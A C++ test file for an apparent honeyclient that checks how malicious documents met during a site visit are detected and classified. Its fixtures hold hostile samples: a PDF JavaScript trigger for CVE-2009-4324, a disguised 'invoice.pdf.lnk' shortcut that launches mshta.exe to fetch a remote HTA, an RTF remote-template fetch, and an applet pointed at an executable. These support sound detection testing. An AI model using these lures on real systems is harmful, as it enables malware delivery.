// Documents that a visit comes upon: taken apart, weighed, followed.
#include <boost/json.hpp>

#include "honeyclient/low/visit_test.h"
#include "triage/documents/builders.h"

namespace shikake::honeyclient::low {
namespace {

using namespace triage::builders;
using namespace std::string_literals;

std::string answer(const std::string& type, const std::string& bytes) {
  return "HTTP/1.1 200 OK\r\nContent-Type: " + type + "\r\n\r\n" + bytes;
}
std::string pdf_script(const std::string& source) {
  return pdf({"<< /Type /Catalog /OpenAction << /S /JavaScript /JS <" + hex(source) + "> >> >>"});
}
std::string format_of(const intel::VisitFile& file) {
  const auto* document = file.facts.if_contains("document");
  return document ? std::string(document->at("format").as_string()) : "";
}

TEST(DocumentVisit, AVulnerableCallConvictsTheDocumentAndLeadsBackToTheLandingPage) {
  Sites sites({{"/", "<iframe src={b}/x></iframe>"},
               {"/x", "<embed src=/a.pdf>"},
               {"/a.pdf", answer("application/pdf", pdf_script("media.newPlayer(null)"))}});
  const intel::VisitRecord visit = visit_or_fail(local_visit(sites.url()));
  ASSERT_EQ(visit.files.size(), 1u);
  EXPECT_EQ(format_of(visit.files[0]), "PDF 1.7");
  EXPECT_EQ(visit.verdict, intel::VisitVerdict::malicious);
  const intel::VisitNode& document = visit.nodes[visit.files[0].node];
  EXPECT_EQ(sites.named(document.url), "{b}/a.pdf");
  EXPECT_EQ(document.role, intel::Role::exploit);
  EXPECT_EQ(document.cves, std::vector<std::string>{"CVE-2009-4324"});
  EXPECT_EQ(visit.nodes[0].role, intel::Role::landing);
}

TEST(DocumentVisit, AnInnocentDocumentConvictsNobody) {
  Sites sites({{"/", "<embed src={b}/a.pdf>"},
               {"/a.pdf", answer("application/pdf", pdf_script("util.printf('%.2f', 1)"))}});
  const intel::VisitRecord visit = visit_or_fail(local_visit(sites.url()));
  EXPECT_EQ(visit.files.size(), 1u);
  EXPECT_EQ(visit.verdict, intel::VisitVerdict::benign);
  EXPECT_EQ(visit.limits_hit, std::vector<std::string>());
}

TEST(DocumentVisit, WhatOpensWithoutAClickIsFollowed) {
  Sites sites({{"/", answer("application/rtf", "{\\rtf1{\\*\\template {b}/next.dot}}")},
               {"/next.dot", answer("application/rtf", "{\\rtf1 nothing}")}});
  const intel::VisitRecord visit = visit_or_fail(local_visit(sites.url()));
  EXPECT_EQ(edge_texts(sites, visit), std::multiset<std::string>{"download {a}/ -> {b}/next.dot"});
  EXPECT_TRUE(visit.nodes[1].fetched);
  EXPECT_EQ(visit.files.size(), 2u);
  EXPECT_EQ(visit.verdict, intel::VisitVerdict::benign);
}

TEST(DocumentVisit, ArchivesAreOpenedAndTheirDocumentsToo) {
  const std::string lure =
      shortcut({.target = "C:\\Windows\\System32\\mshta.exe", .arguments = "http://files.example/a.hta"});
  KeptBlobs blobs;
  VisitOptions options = local_visit("http://files.example/invoice.zip");
  options.offline = true;
  options.content = zip({{"inner/invoice.zip", zip({{"invoice.pdf.lnk", lure}, {"readme.txt", "plain"}})}});
  options.content_type = "application/zip";
  const intel::VisitRecord visit = visit_or_fail(options, blobs);
  ASSERT_EQ(visit.files.size(), 3u);
  EXPECT_EQ(visit.files[2].inside, "inner/invoice.zip!invoice.pdf.lnk");
  EXPECT_EQ(format_of(visit.files[2]), "Windows shortcut");
  EXPECT_TRUE(blobs.kept.contains(base::sha256(lure).hex()));
  EXPECT_EQ(visit.verdict, intel::VisitVerdict::malicious);
  ASSERT_EQ(visit.nodes.size(), 2u);
  EXPECT_EQ(visit.nodes[1].url, "http://files.example/a.hta");
  EXPECT_EQ(visit.nodes[1].role, intel::Role::distribution);
}

TEST(DocumentVisit, AppletsAreNotedWithWhatTheyAreTold) {
  Sites sites({{"/", "<applet code=A archive=a.jar><param name=to value='{b}/s.exe'></applet>"},
               {"/a.jar", answer("application/java-archive",
                                 zip({{"META-INF/MANIFEST.MF", "Main-Class: A\n"},
                                      {"A.class", java_class("A", "java/applet/Applet", {"openStream"})}}))}});
  const intel::VisitRecord visit = visit_or_fail(local_visit(sites.url()));
  ASSERT_EQ(visit.files.size(), 1u);
  EXPECT_EQ(format_of(visit.files[0]), "Java archive");
  const std::vector<std::string> told = events_of(visit, "component");
  ASSERT_EQ(told.size(), 1u);
  EXPECT_EQ(sites.named(told[0]), "applet code=A archive=a.jar to={b}/s.exe");
}

TEST(DocumentVisit, TheRecordSurvivesItsJson) {
  VisitOptions options = local_visit("http://files.example/a.lnk");
  options.offline = true;
  options.content = shortcut({.target = "C:\\a.exe", .arguments = "b"});
  options.content_type = "application/x-ms-shortcut";
  const intel::VisitRecord visit = visit_or_fail(options);
  ASSERT_EQ(visit.files.size(), 1u);
  const boost::json::object record = intel::to_json(visit);
  auto again = intel::visit_from_json(record);
  ASSERT_TRUE(again) << again.error().message();
  EXPECT_EQ(intel::to_json(*again), record);
}

}  // namespace
}  // namespace shikake::honeyclient::low
